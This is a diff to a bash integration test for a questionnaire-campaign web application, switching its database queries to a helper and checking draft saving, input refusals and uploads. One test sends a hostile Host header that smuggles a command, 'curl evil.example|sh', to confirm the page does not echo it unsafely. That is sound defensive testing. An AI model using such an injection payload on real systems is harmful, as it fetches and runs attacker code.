@@ -10,7 +10,6 @@
 # content type, too large, for a closed campaign, another organisation's
 # assignment — each with its code, nothing stored changed, one audit entry.
 C=(--config "$INST/itaku.conf")
-DB=$INST/itaku.db
 page() { # CLIENT METHOD PATH [curl args…]: body $W/page.html, headers $W/page.h, status on stdout
 	local client=$1 method=$2 path=$3
 	shift 3
@@ -21,8 +20,8 @@ page() { # CLIENT METHOD PATH [curl args…]: body $W/page.html, headers $W/page
 has() { grep -qF -- "$1" "$W/page.html" || die "page lacks '$1': $(head -c 300 "$W/page.html")"; }
 lacks() { ! grep -qF -- "$1" "$W/page.html" || die "page has '$1'"; }
 token() { sed -n 's/.*name="csrf" value="\([^"]*\)".*/\1/p' "$W/page.html" | head -n 1; }
-drafts() { sqlite3 "$DB" "SELECT * FROM drafts; SELECT * FROM draft_items ORDER BY 1, 2"; }
-scored() { sqlite3 "$DB" "SELECT count(*) FROM submissions; SELECT count(*) FROM answers;
+drafts() { dbq "SELECT * FROM drafts ORDER BY 1; SELECT * FROM draft_items ORDER BY 1, 2"; }
+scored() { dbq "SELECT count(*) FROM submissions; SELECT count(*) FROM answers;
 	SELECT count(*) FROM scores; SELECT * FROM campaign_item_levels ORDER BY 1, 2, 3"; }
 
 # a campaign of its own, so the assignment is fresh whatever ran before
@@ -30,8 +29,8 @@ cid=$("$ITAKU" campaign create --questionnaire ipa-benchmark@1 --due 2099-06-30 
 	die "campaign create"
 "$ITAKU" campaign assign "$cid" 7999900000002 "${C[@]}" >/dev/null || die "assign"
 "$ITAKU" campaign assign "$cid" 6999900000003 --variant low-it "${C[@]}" >/dev/null || die "assign"
-aid=$(sqlite3 "$DB" "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '7999900000002'")
-rid=$(sqlite3 "$DB" "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '6999900000003'")
+aid=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '7999900000002'")
+rid=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '6999900000003'")
 
 # the form
 expect_eq "$(page resp-ec GET "/assignments/$aid")" 200 "answer page"
@@ -121,16 +120,16 @@ refuse 400 form_invalid "an encoded NUL in a field name" resp-ec "$P" -d "csrf=$
 # a line break counts as one character, as the browser's maxlength counts it
 crlf="$(head -c 3998 /dev/zero | tr '\0' a)%0D%0Ab"
 expect_eq "$(page resp-ec POST "$P" -d "csrf=$tok" -d "comment.1.1=$crlf")" 303 "4000 characters with a CRLF"
-expect_eq "$(sqlite3 "$DB" "SELECT length(comment), instr(comment, char(13)) FROM draft_items WHERE assignment_id = $aid AND item_id = '1.1'")" \
+expect_eq "$(dbq "SELECT length(comment), length(comment) - length(replace(comment, $(sql_chr 13), '')) FROM draft_items WHERE assignment_id = $aid AND item_id = '1.1'")" \
 	"4000|0" "the line break stored as LF"
 # the page's own encoding: multipart, in which a full Japanese draft fits
 jp=$(python3 -c 'print("情" * 4000)')
 margs=(-F "csrf=$tok")
-for id in $(sqlite3 "$DB" "SELECT item_id FROM questionnaire_items WHERE questionnaire = 'ipa-benchmark' AND version = '1' AND optional = 0"); do
+for id in $(dbq "SELECT item_id FROM questionnaire_items WHERE questionnaire = 'ipa-benchmark' AND version = '1' AND optional = 0"); do
 	margs+=(-F "level.$id=3" -F "comment.$id=$jp")
 done
 expect_eq "$(page resp-ec POST "$P" "${margs[@]}")" 303 "a full Japanese draft, multipart"
-expect_eq "$(sqlite3 "$DB" "SELECT count(*), min(length(comment)) FROM draft_items WHERE assignment_id = $aid")" "27|4000" "the full draft stored"
+expect_eq "$(dbq "SELECT count(*), min(length(comment)) FROM draft_items WHERE assignment_id = $aid")" "27|4000" "the full draft stored"
 saved=$(drafts)
 # the Host a command shows is a host, or HOST
 expect_eq "$(page resp-ec GET "/assignments/$aid" -H 'Host: evil.example/x;curl evil.example|sh;#')" 200 "a hostile Host"
@@ -145,7 +144,7 @@ echo "draft refusals checked"
 cid2=$("$ITAKU" campaign create --questionnaire ipa-benchmark@1 --due 2099-07-31 --name "提出まで" "${C[@]}") ||
 	die "campaign create"
 "$ITAKU" campaign assign "$cid2" 7999900000002 "${C[@]}" >/dev/null || die "assign"
-aid2=$(sqlite3 "$DB" "SELECT id FROM assignments WHERE campaign_id = $cid2 AND org_id = '7999900000002'")
+aid2=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid2 AND org_id = '7999900000002'")
 expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page"
 tok=$(token)
 has "href=\"/assignments/$aid2/answers.xml\""
@@ -167,8 +166,8 @@ grep -qF '<comment>入退室は IC カードで記録 &lt;&amp;&gt;</comment>' "
 	-o "$W/filled.asice" >/dev/null || die "itaku pack of the downloaded file"
 expect_eq "$(upload resp-ec "$W/filled.asice")" 201 "upload of the browser's draft"
 sid=$(jq -r .id "$W/out.json")
-expect_eq "$(sqlite3 "$DB" "SELECT item_id || '=' || CASE level WHEN 0 THEN 'na' ELSE level END FROM answers WHERE submission_id = $sid ORDER BY rowid" | tr '\n' ' ')" \
-	"$(sqlite3 "$DB" "SELECT item_id || '=' || level FROM draft_items WHERE assignment_id = $aid2 ORDER BY rowid" | tr '\n' ' ')" \
+expect_eq "$(dbq "SELECT item_id || '=' || CASE level WHEN 0 THEN 'na' ELSE CAST(level AS TEXT) END FROM answers WHERE submission_id = $sid ORDER BY item_id" | tr '\n' ' ')" \
+	"$(dbq "SELECT item_id || '=' || level FROM draft_items WHERE assignment_id = $aid2 ORDER BY item_id" | tr '\n' ' ')" \
 	"accepted answers are the draft's"
 # a version accepted after the draft: the page shows it, not the older draft
 sed -i 's/level="1"/level="5"/g' "$W/filled.xml"
@@ -180,5 +179,5 @@ sed -i "s/nonce=\"[^\"]*\"/nonce=\"$nonce\"/" "$W/filled.xml"
 expect_eq "$(upload resp-ec "$W/newer.asice")" 201 "a newer version by the command line"
 expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page after a newer version"
 has '保存されていた下書きより新しい回答が受理されています'
-first=$(sqlite3 "$DB" "SELECT item_id FROM draft_items WHERE assignment_id = $aid2 AND level = '1' LIMIT 1")
+first=$(dbq "SELECT item_id FROM draft_items WHERE assignment_id = $aid2 AND level = '1' LIMIT 1")
 [ -z "$first" ] || has "id=\"l-$first-5\" checked"
